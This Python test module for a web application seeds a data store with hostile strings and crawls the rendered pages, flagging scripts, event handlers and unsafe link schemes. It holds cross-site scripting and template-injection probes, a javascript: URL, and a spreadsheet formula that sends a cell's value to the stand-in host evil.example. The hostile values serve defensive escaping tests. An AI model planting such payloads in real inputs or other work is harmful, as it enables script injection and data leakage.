"""A store in which every field of every kind holds hostile text, and what a page may not hold."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urljoin, urlsplit

from fastapi.testclient import TestClient
from lxml import html

from accord.document import Block, Document, Span
from accord.kinds import kinds
from accord.record import STATUSES, Claim, Field, Type, claim_id
from accord.store import Kept, Skipped, Store, Word, anchor
from accord.values import Period

HOSTILE = """<script>alert(1)</script>"'><img src=x onerror=alert(1)>{{7*7}}${7*7}</textarea></title>"""
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
_URL = "javascript:alert(1)//" + HOSTILE
_SPAN = 400  # characters for the quote of each claim


def fill(path: Path) -> None:
    """Put a hostile document, a claim of each kind with hostile values, and hostile judgements into a store."""
    names = sorted(kinds())
    text = "\n".join((HOSTILE + " ")[:_SPAN].ljust(_SPAN) for _ in names) + "\n" + FORMULA
    raw = text.encode()
    blocks = tuple(Block("paragraph", n * (_SPAN + 1), n * (_SPAN + 1) + _SPAN) for n in range(len(names)))
    document = Document(
        hashlib.sha256(raw).hexdigest(), f"{FORMULA}{HOSTILE}.txt", text, blocks, "en", HOSTILE, _URL, HOSTILE,
        Period.parse("2025-01-02"), "text/html", {"published": HOSTILE},
    )  # fmt: skip
    claims = [_claim(document, name, n * (_SPAN + 1)) for n, name in enumerate(names)]
    with Store.open(path) as store:
        skipped = Skipped(f"{HOSTILE}.pdf", HOSTILE, HOSTILE)
        store.keep([Kept(document, raw, claims, version=HOSTILE, note=HOSTILE), skipped])
        for claim in claims:
            day = "2025-01-03T00:00:00+00:00"
            store.judge(Word("right", (anchor(claim),), "", None, None, HOSTILE, HOSTILE, HOSTILE, day))
        store.rebuild()


def _claim(document: Document, kind: str, at: int) -> Claim:
    fields = kinds()[kind].fields
    values = {field.name: _value(field) for field in fields}
    span = Span(at, at + len(HOSTILE))
    evidence = (document.evidence(span, tuple(sorted(values))),)
    id_ = claim_id(document.hash, kind, values, span.start, span.end)
    states, said = ("KEN", "UGA"), (HOSTILE,)
    return Claim(id_, document.hash, document.doc, kind, values, evidence, STATUSES[0], states, said, {}, 0.99)


def _value(field: Field) -> object:
    fixed = {Type.STATE: "KEN", Type.STATES: ["KEN", "UGA"], Type.NUMBER: 12, Type.PERIOD: "2025-01-02"}
    lists = (Type.PEOPLE, Type.ACTORS)
    if field.type in fixed:
        return fixed[field.type]
    if field.words:
        return field.words[0]
    return [HOSTILE] if field.type in lists else HOSTILE


def pages(client: TestClient, start: str, most: int) -> Iterator[tuple[str, str, html.HtmlElement]]:
    """The pages that links lead to from one: address, text, tree."""
    waiting, seen = [start], {start}
    while waiting and most:
        at = waiting.pop(0)
        answer = client.get(at)
        assert answer.status_code in (200, 404), f"{at}: {answer.status_code}"
        if not answer.headers["content-type"].startswith("text/html") or "content-disposition" in answer.headers:
            continue  # a picture, a table, a file to be saved
        most -= 1
        tree = html.fromstring(answer.text)
        yield at, answer.text, tree
        for link in tree.iterlinks():
            there = urlsplit(urljoin(at, link[2]))
            path = there.path + (f"?{there.query}" if there.query else "")
            if link[0].tag == "a" and not there.netloc and not there.scheme and path not in seen:
                seen.add(path)
                waiting.append(path)


def faults(tree: html.HtmlElement) -> list[str]:
    """What runs, or leads away, in a page."""
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        source = element.get("src", "")
        if element.tag in ("script", "img", "iframe", "embed", "object") and not source.startswith(
            ("/", "data:image/")
        ):
            found.append(f"<{element.tag} src={source!r}>")
        found += [f"{element.tag} {name}" for name, _ in element.items() if name.lower().startswith("on")]
        for name in ("href", "src", "action", "formaction"):
            scheme = urlsplit(element.get(name, "").strip()).scheme.lower()
            if scheme not in ("", "http", "https", "mailto") and not source.startswith("data:image/"):
                found.append(f"{element.tag} {name}={element.get(name)!r}")
    return found
